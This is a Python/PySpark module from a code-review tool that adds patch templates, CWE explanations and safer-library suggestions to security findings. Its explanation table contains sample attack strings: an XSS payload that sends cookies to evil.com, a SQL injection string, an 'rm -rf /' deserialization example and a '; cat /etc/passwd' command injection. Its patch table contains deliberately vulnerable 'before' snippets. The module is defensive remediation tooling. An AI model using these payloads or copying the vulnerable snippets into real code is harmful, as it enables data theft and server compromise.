"""Remediation: patches, explanations and safer libraries joined to findings."""

from __future__ import annotations

import json

from pyspark.sql import Column, DataFrame
from pyspark.sql import functions as F

from changelens.functions.text import lookup, once

# ---------------------------------------------------------------------------
# Patch templates, weakness explanations and library advice.
# ---------------------------------------------------------------------------
PATCH_KEYWORDS = [
    ("eval", "eval"), ("sql injection", "sql_injection"), ("md5", "md5"), ("sha1", "md5"),
    ("hardcoded password", "hardcoded_password"), ("hardcoded secret", "hardcoded_password"),
    ("shell injection", "shell_injection"), ("command injection", "shell_injection"), ("pickle", "pickle"),
    ("deserialization", "pickle"), ("random", "weak_random"), ("xss", "xss"), ("innerhtml", "xss"),
]
PATCHES = [
    ("eval", "result = eval(user_input)",
     "# Use ast.literal_eval for safe evaluation of literals\nimport ast\nresult = ast.literal_eval(user_input)  # Only for literals\n# Or use a proper expression parser library",
     "eval() executes arbitrary Python code. Use ast.literal_eval() for literals or a dedicated expression parser."),
    ("sql_injection", 'cursor.execute(f"SELECT * FROM users WHERE id = {user_id}")',
     'cursor.execute("SELECT * FROM users WHERE id = %s", (user_id,))',
     "Use parameterized queries to prevent SQL injection. Never format user input directly into SQL strings."),
    ("md5", "hashlib.md5(data).hexdigest()", "hashlib.sha256(data).hexdigest()  # or use hashlib.sha3_256",
     "MD5 is cryptographically broken. Use SHA-256 or SHA-3 for non-password hashing."),
    ("hardcoded_password", 'password = "my_secret_password"',
     'import os\npassword = os.environ.get("DB_PASSWORD")  # Load from environment',
     "Never hardcode credentials. Use environment variables, secrets management (Vault, AWS Secrets Manager), or encrypted config files."),
    ("shell_injection", 'os.system(f"ls {user_input}")',
     'import subprocess\nresult = subprocess.run(["ls", user_input], capture_output=True, text=True, check=True)',
     "Avoid shell=True and string formatting in subprocess calls. Pass arguments as a list."),
    ("pickle", "data = pickle.loads(user_data)", "import json\ndata = json.loads(user_data)  # Use JSON for safe deserialization",
     "pickle.loads() can execute arbitrary code during deserialization. Use JSON, MessagePack, or other safe formats."),
    ("weak_random", "token = str(random.random())", "import secrets\ntoken = secrets.token_hex(32)  # Cryptographically secure",
     "random module is not cryptographically secure. Use the secrets module for tokens, passwords, and security-sensitive randomness."),
    ("xss", "element.innerHTML = userInput;", "element.textContent = userInput;  // Or use DOMPurify.sanitize()",
     "innerHTML enables XSS attacks. Use textContent for plain text or DOMPurify for HTML sanitization."),
]
EXPLANATIONS = [
    ("CWE-89", "SQL Injection",
     "Attackers can read, modify, or delete database content; bypass authentication; execute admin operations.",
     "An attacker submits ' OR 1=1 -- as input, causing the SQL query to return all records.",
     "Data breach, compliance violations, reputational damage, potential ransomware via xp_cmdshell."),
    ("CWE-79", "Cross-Site Scripting (XSS)",
     "Attackers can steal session cookies, redirect users, deface pages, or install malware.",
     "Attacker injects <script>document.location='https://evil.com/?cookie='+document.cookie</script>",
     "Account takeover, data theft, malware distribution to users."),
    ("CWE-502", "Deserialization of Untrusted Data",
     "Remote code execution, privilege escalation, denial of service.",
     "Attacker sends crafted serialized object that executes os.system('rm -rf /') on deserialization.",
     "Complete system compromise, data loss, ransomware deployment."),
    ("CWE-327", "Broken Cryptographic Algorithm",
     "Attackers can decrypt sensitive data, forge signatures, or break authentication.",
     "MD5 hash cracked in seconds using rainbow tables or GPU-accelerated attacks.",
     "Data exposure, authentication bypass, regulatory non-compliance."),
    ("CWE-78", "OS Command Injection",
     "Full system compromise, data exfiltration, lateral movement.",
     "User input `; cat /etc/passwd` appended to shell command gives read access to system files.",
     "Complete server compromise, data breach, infrastructure takeover."),
]
DEFAULT_EXPLANATION = (
    "Could enable attackers to compromise data or system integrity.",
    "See description for details.",
    "Potential data breach or system compromise.",
)
SAFER_LIBRARIES = {
    "sql_injection": {
        "python": ["SQLAlchemy with ORM (parameterized by default)", "Django ORM", "psycopg2 with %s placeholders"],
        "javascript": ["knex.js with parameterized queries", "Sequelize ORM", "Prisma"],
        "java": ["JDBC PreparedStatement", "Hibernate", "JPA"],
    },
    "weak_crypto": {
        "python": ["cryptography library (pip install cryptography)", "PyNaCl for modern crypto", "argon2-cffi for password hashing"],
        "javascript": ["node:crypto (built-in)", "libsodium-wrappers", "bcrypt for passwords"],
        "java": ["BouncyCastle", "Java Security API with AES-256-GCM"],
    },
    "deserialization": {
        "python": ["json (stdlib)", "msgpack", "protobuf"],
        "java": ["Jackson with strict typing", "Gson with type adapters"],
        "javascript": ["JSON.parse() (stdlib)", "yup for schema validation"],
    },
    "xss": {
        "javascript": ["DOMPurify", "xss npm package", "React (auto-escapes by default)"],
        "python": ["markupsafe (used by Jinja2)", "bleach for HTML sanitization"],
    },
    "ssrf": {
        "python": ["ssrf-filter library", "Custom allowlist validator"],
        "javascript": ["ssrf-req-filter", "node-ssrf-filter"],
    },
    "weak_random": {
        "python": ["secrets (stdlib)", "os.urandom()"],
        "javascript": ["crypto.randomBytes() (Node.js built-in)"],
        "java": ["java.security.SecureRandom"],
    },
    "password_storage": {
        "python": ["argon2-cffi (recommended)", "bcrypt", "passlib"],
        "javascript": ["argon2 npm", "bcrypt npm"],
        "java": ["Spring Security PasswordEncoder", "jBCrypt"],
    },
}


def unified_diff(before: str, after: str) -> str:
    """Unified-diff text of a replacement (Q10)."""
    old, new = before.split("\n"), after.split("\n")
    head = f"--- a/vulnerable_code\n+++ b/fixed_code\n@@ -1,{len(old)} +1,{len(new)} @@"
    return "\n".join([head, *("-" + line for line in old), *("+" + line for line in new)])


def vulnerability_type(findings: DataFrame) -> Column:
    """First remediation keyword found in the title or the description."""
    title, text = F.lower("title"), F.lower(F.coalesce("description", F.lit("")))
    return F.coalesce(*[F.when(title.contains(k) | text.contains(k), F.lit(t)) for k, t in PATCH_KEYWORDS])


def _constant(key: Column, rows: dict[str, dict], schema: str) -> Column:
    """Row of a small constant table from a literal map: a left join without a join."""
    return F.try_element_at(F.from_json(F.lit(json.dumps(rows)), f"map<string,struct<{schema}>>"), key)


def with_patch(findings: DataFrame) -> DataFrame:
    """Patch fields of each finding, or the manual-review fallback (Q9)."""
    kind = vulnerability_type(findings)
    # the diff text is the same for every finding of a kind, so it is part of the table
    templates = {k: dict(before=b, after=a, explanation=e, diff=unified_diff(b, a)) for k, b, a, e in PATCHES}
    out = once(findings, _kind=kind)
    out = once(out, _patch=_constant(F.col("_kind"), templates, "before string, after string, explanation string, diff string"))
    available = F.col("_patch").isNotNull()
    manual = F.when(F.coalesce("suggestion", F.lit("")) != "", F.col("suggestion")).otherwise(F.col("description"))
    return out.withColumns({
        "patch_available": available,
        "vulnerability_type": F.coalesce("_kind", F.lit("unknown")),
        "patch_before": F.col("_patch.before"),
        "patch_after": F.col("_patch.after"),
        "patch_explanation": F.when(available, F.col("_patch.explanation")).otherwise(manual),
        "patch": F.col("_patch.diff"),
    }).drop("_kind", "_patch")


def with_explanation(findings: DataFrame) -> DataFrame:
    """Weakness name, impact, attack scenario and business impact."""
    rows = {c: dict(name=n, impact=i, attack=a, business=b) for c, n, i, a, b in EXPLANATIONS}
    row = _constant(F.col("cwe_id"), rows, "name string, impact string, attack string, business string")
    impact, attack, business = DEFAULT_EXPLANATION
    return once(findings, _x=row).withColumns({
        "vulnerability_name": F.coalesce("_x.name", "title"),
        "impact": F.coalesce("_x.impact", F.lit(impact)),
        "attack_scenario": F.coalesce("_x.attack", F.lit(attack)),
        "business_impact": F.coalesce("_x.business", F.lit(business)),
    }).drop("_x")


def safer_libraries(kind: Column, language: Column) -> Column:
    """Safer libraries for a vulnerability type: the language's list, else Python's, else none."""
    lists = {f"{t}/{l}": libraries for t, by in SAFER_LIBRARIES.items() for l, libraries in by.items()}
    entries = F.from_json(F.lit(json.dumps(lists)), "map<string,array<string>>")
    key = F.regexp_replace(F.lower(kind), r"[ \-]", "_")
    found = lambda lang: F.try_element_at(entries, F.concat(key, F.lit("/"), lang))
    return F.coalesce(found(F.lower(language)), found(F.lit("python")), F.array().cast("array<string>"))


def enrich(findings: DataFrame, where: Column | None = None) -> DataFrame:
    """Add remediation to critical and high findings in place (Q11), only ``where`` it holds."""
    full = with_explanation(with_patch(findings))
    serious = F.col("severity").isin("critical", "high")
    if where is not None:
        serious = serious & where
    fixed = F.concat(
        F.coalesce("suggestion", F.lit("")), F.lit("\n\n**Fixed Code:**\n```\n"), F.col("patch_after"),
        F.lit("\n```\n\n**Explanation:** "), F.col("patch_explanation"))
    return full.withColumns({
        "suggestion": F.when(serious & F.col("patch_available"), fixed).otherwise(F.col("suggestion")),
        "patch": F.when(serious, F.col("patch")),
        "safer_libraries": F.when(serious, safer_libraries(F.col("vulnerability_type"), F.lit("python"))),
        "attack_scenario": F.when(serious, F.col("attack_scenario")),
        "business_impact": F.when(serious, F.col("business_impact")),
        "remediation_explanation": F.when(serious, F.struct("vulnerability_name", "cwe_id", "impact", "attack_scenario", "business_impact")),
    }).drop("patch_available", "vulnerability_type", "patch_before", "patch_after", "patch_explanation", "vulnerability_name", "impact")


def control_name(control: Column) -> Column:
    """Name of a control id, ``Unknown`` when not listed."""
    from changelens.operators.rules import SOC2_CONTROLS

    return lookup(control, SOC2_CONTROLS, "Unknown")
